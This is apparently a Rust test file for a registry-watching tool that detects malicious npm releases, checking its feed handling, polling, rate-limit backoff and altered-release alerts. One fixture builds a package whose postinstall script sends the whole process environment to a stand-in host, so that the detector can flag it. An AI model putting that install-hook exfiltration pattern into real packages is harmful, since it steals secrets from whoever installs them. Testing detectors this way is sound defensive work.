//! `customs watch` as a person starts it: the built program, a registry on a loopback port
//! that publishes while it is watched, and everything that is told.

// A test that cannot be set up has failed.
#![allow(clippy::unwrap_used, clippy::expect_used)]
#![cfg(unix)]

mod hook;
// Not everything that other tests put on a shelf is needed here.
#[allow(dead_code)]
#[path = "../faults/shelves.rs"]
mod shelves;
mod upstream;
mod watcher;

use hook::Hook;
use serde_json::Value;
use shelves::{Release, days, release, tgz};
use std::time::{Duration, Instant};
use upstream::Registry;
use watcher::Watcher;

const NAME: &str = "left-pad";

/// A release that sends the environment away when it is installed. Its host does not exist.
fn bad(version: &str) -> Release {
    let manifest = format!(
        r#"{{"name": "{NAME}", "version": "{version}", "scripts": {{"postinstall": "node setup.js"}}}}"#
    );
    let setup = "const all = process.env;\nfetch('https://collect.invalid/v1', {\n  method: 'POST',\n  \
                 body: JSON.stringify(all),\n});\n";
    let bytes = tgz(&[("package.json", &manifest), ("setup.js", setup)]);
    release(version, days(0)).bytes(bytes)
}

fn honest(version: &str) -> Release {
    let manifest = format!(r#"{{"name": "{NAME}", "version": "{version}"}}"#);
    let bytes = tgz(&[
        ("package.json", &manifest),
        ("index.js", "module.exports = (text) => text.padStart(8);\n"),
    ]);
    release(version, days(400)).bytes(bytes)
}

/// The findings of a line of the log, by rule.
fn rules(line: &Value) -> Vec<&str> {
    let findings = line["verdict"]["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|finding| finding["rule"].as_str().unwrap())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_release_that_a_feed_announces_is_read_and_told_everywhere() {
    let registry = Registry::new().await;
    registry.publish(NAME, vec![honest("1.0.0")]);
    let hook = Hook::new().await;
    let feed = format!("{}/feed", registry.base());
    let webhook = hook.address();
    // The second look at the one package is the one that the feed asks for: it ends with it.
    let arguments = [
        "--feed",
        &feed,
        "--webhook",
        &webhook,
        "--rate",
        "50",
        "--rounds",
        "2",
    ];
    let watcher = Watcher::start(&registry.base(), NAME, &arguments);
    let is_begun = || registry.count("/left-pad") > 0 && registry.count("/feed/") > 0;
    watcher.until("the first look", is_begun).await;

    let published = Instant::now();
    registry.publish(NAME, vec![honest("1.0.0"), bad("1.0.1")]);
    registry.announce(NAME);
    let ended = watcher.end().await;
    let took = published.elapsed();

    assert_eq!(ended.code, Some(1), "{}", ended.stderr);
    let feed = "what the feed of changes names is looked at within seconds";
    assert!(ended.stderr.contains(feed), "{}", ended.stderr);
    assert!(took < Duration::from_secs(60), "{took:?}");
    let terminal = &ended.stdout;
    assert!(
        terminal.contains("left-pad@1.0.1 (npm): MALICIOUS"),
        "{terminal}"
    );
    assert!(terminal.contains("after it was published"), "{terminal}");
    assert!(terminal.contains("secret-to-network"), "{terminal}");
    let achieved = "from publication to verdict: median ";
    assert!(ended.stderr.contains(achieved), "{}", ended.stderr);
    assert!(ended.stderr.contains("1 new releases"), "{}", ended.stderr);

    let log = ended.log();
    assert_eq!(log.len(), 1, "{log:?}");
    assert_eq!(log[0]["release"], "pkg:npm/left-pad@1.0.1");
    assert_eq!(log[0]["verdict"]["standing"], "malicious");
    assert_eq!(log[0]["while_away"], false);
    let delay = log[0]["delay_seconds"].as_u64().unwrap();
    assert!(delay <= took.as_secs() + 1, "{delay} s of {took:?}");
    // What only the comparison with 1.0.0 shows is there as well.
    assert!(rules(&log[0]).contains(&"novelty"), "{:?}", rules(&log[0]));
    assert_eq!(log[0]["predecessors"][0]["version"], "1.0.0");

    assert_eq!(
        hook.bodies(),
        log,
        "the webhook is told what the file is told"
    );
    let sarif = ended.sarif();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let is_told = |result: &Value| result["ruleId"] == "secret-to-network";
    assert!(results.iter().any(is_told), "{sarif}");
    let drafts = ended.drafts();
    assert_eq!(drafts.len(), 1);
    assert_eq!(drafts[0]["affected"][0]["package"]["name"], NAME);
    assert_eq!(drafts[0]["affected"][0]["versions"][0], "1.0.1");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_registry_without_a_feed_is_polled_and_left_alone_when_it_asks_for_it() {
    let registry = Registry::new().await;
    registry.publish(NAME, vec![honest("1.0.0")]);
    let arguments = ["--every", "1s", "--rate", "50"];
    let watcher = Watcher::start(&registry.base(), NAME, &arguments);
    // What did not change is not sent again.
    watcher
        .until("a conditional answer", || registry.answered(304) > 0)
        .await;

    // Longer than a package waits that failed once.
    let rest = Duration::from_secs(20);
    registry.is_busy(Some(rest));
    watcher
        .until("a refusal", || registry.answered(429) > 0)
        .await;
    let refused = Instant::now();
    registry.is_busy(None);
    registry.publish(NAME, vec![honest("1.0.0"), bad("1.0.1")]);
    let asked = registry.count("/left-pad");
    watcher
        .until("the next look", || registry.count("/left-pad") > asked)
        .await;
    let waited = refused.elapsed();
    assert!(waited + Duration::from_secs(1) >= rest, "only {waited:?}");

    watcher
        .until("the news", || !watcher.log().is_empty())
        .await;
    let ended = watcher.stop().await;
    assert_eq!(ended.code, Some(1), "{}", ended.stderr);
    assert!(ended.stderr.contains("answered 429"), "{}", ended.stderr);
    assert_eq!(ended.log()[0]["release"], "pkg:npm/left-pad@1.0.1");
    let achieved = "from publication to verdict: median ";
    assert!(ended.stderr.contains(achieved), "{}", ended.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn another_content_of_a_release_is_told_and_does_not_become_the_first_one() {
    let registry = Registry::new().await;
    registry.publish(NAME, vec![honest("1.0.0")]);
    let arguments = ["--every", "1s", "--rate", "50"];
    let watcher = Watcher::start(&registry.base(), NAME, &arguments);
    watcher
        .until("a second look", || registry.answered(304) > 0)
        .await;

    let first = registry.digest(NAME, "1.0.0");
    registry.publish(NAME, vec![bad("1.0.0")]);
    watcher
        .until("the alarm", || !watcher.log().is_empty())
        .await;
    // Seen again and again, and told once.
    let asked = registry.count("/left-pad");
    watcher
        .until("more looks", || registry.count("/left-pad") > asked + 2)
        .await;
    let ended = watcher.stop().await;
    assert_eq!(ended.code, Some(1), "{}", ended.stderr);
    let log = ended.log();
    assert_eq!(log.len(), 1, "{log:?}");
    assert_eq!(log[0]["altered"]["first"], first);
    assert_eq!(log[0]["altered"]["now"], registry.digest(NAME, "1.0.0"));
    assert!(rules(&log[0]).contains(&"altered-release"));
    // The new content was read.
    assert_eq!(log[0]["verdict"]["standing"], "malicious");
    assert!(
        ended.stderr.contains("1 with another content"),
        "{}",
        ended.stderr
    );
}
